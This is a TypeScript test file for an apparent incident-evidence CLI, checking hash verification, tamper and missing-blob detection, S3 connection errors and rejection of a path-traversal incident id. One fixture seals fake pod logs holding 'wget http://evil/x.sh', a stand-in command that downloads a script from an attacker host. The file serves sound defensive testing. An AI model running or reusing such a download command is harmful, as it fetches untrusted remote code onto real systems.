import { chmod, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { LocalEvidenceStore } from '../../activities/evidence/index.ts';
import { freePort } from '../../src/sandbox/processes.ts';
import { tempDir } from './helpers.ts';
import { runFirebreak } from '../support/cli.ts';

async function sealedIncident() {
  const dir = await tempDir('cli');
  const store = new LocalEvidenceStore(dir);
  const pod = await store.seal({ incidentId: 'INC-42', name: 'pod web-1', content: '{"phase":"Running"}', mediaType: 'application/json' });
  const logs = await store.seal({ incidentId: 'INC-42', name: 'pod logs', content: 'wget http://evil/x.sh', mediaType: 'text/plain' });
  return { dir, pod, logs, env: { FIREBREAK_EVIDENCE_DIR: dir } };
}

describe('firebreak evidence', () => {
  it('verify prints one ok line per item and exits 0 when nothing changed', async () => {
    const { pod, logs, env } = await sealedIncident();

    const r = await runFirebreak(['evidence', 'verify', 'INC-42'], env);

    expect(r.code).toBe(0);
    const lines = r.stdout.trim().split('\n');
    expect(lines.slice(0, 2)).toEqual([
      `ok        pod web-1  sha256:${pod.sha256.slice(0, 12)}`,
      `ok        pod logs  sha256:${logs.sha256.slice(0, 12)}`,
    ]);
    expect(lines[2]).toContain('2 items of incident INC-42 verified');
  });

  it('verify reports a rewritten blob as MISMATCH and exits 1', async () => {
    const { dir, logs, env } = await sealedIncident();
    const blob = join(dir, 'blobs', 'sha256', logs.sha256.slice(0, 2), logs.sha256);
    await chmod(blob, 0o644);
    await writeFile(blob, 'nothing to see');

    const r = await runFirebreak(['evidence', 'verify', 'INC-42'], env);

    expect(r.code).toBe(1);
    expect(r.stdout).toContain(`MISMATCH  pod logs  expected sha256:${logs.sha256} got sha256:`);
    expect(r.stdout).toMatch(/TAMPERING DETECTED in incident INC-42: 1 changed, 0 missing, 1 of 2 intact/);
  });

  it('verify --json prints the report and exits 1 when a blob is missing', async () => {
    const { dir, pod, env } = await sealedIncident();
    await rm(join(dir, 'blobs', 'sha256', pod.sha256.slice(0, 2), pod.sha256));

    const r = await runFirebreak(['evidence', 'verify', 'INC-42', '--json'], env);

    expect(r.code).toBe(1);
    const report = JSON.parse(r.stdout) as { ok: boolean; items: { name: string; status: string }[] };
    expect(report.ok).toBe(false);
    expect(report.items.map((i) => [i.name, i.status])).toEqual([
      ['pod web-1', 'missing'],
      ['pod logs', 'ok'],
    ]);
  });

  it('verify exits 1 with one line when the incident has no manifest', async () => {
    const { env } = await sealedIncident();

    const r = await runFirebreak(['evidence', 'verify', 'INC-404'], env);

    expect(r.code).toBe(1);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).toContain('No evidence manifest for incident "INC-404"');
  });

  it('verify exits 2 with one line when the S3 store cannot be reached', async () => {
    const port = await freePort();

    const r = await runFirebreak(['evidence', 'verify', 'INC-42'], {
      FIREBREAK_EVIDENCE_BACKEND: 's3',
      FIREBREAK_EVIDENCE_S3_BUCKET: 'evidence',
      AWS_ENDPOINT_URL: `http://127.0.0.1:${port}`,
      AWS_ACCESS_KEY_ID: 'testing',
      AWS_SECRET_ACCESS_KEY: 'testing',
    });

    expect(r.code).toBe(2);
    expect(r.stderr.trim().split('\n').filter((l) => l.startsWith('firebreak:'))).toEqual([
      expect.stringContaining('Check network access to S3'),
    ]);
  });

  it('list prints the manifest as JSON, references only', async () => {
    const { pod, logs, env } = await sealedIncident();

    const r = await runFirebreak(['evidence', 'list', 'INC-42', '--json'], env);

    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout)).toEqual([pod, logs]);
    expect(r.stdout).not.toContain('evil');
  });

  it('refuses an incident id that is not a plain name, exit 1', async () => {
    const { env } = await sealedIncident();
    const r = await runFirebreak(['evidence', 'list', '../INC-42'], env);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('Invalid incident id "../INC-42"');
  });
});
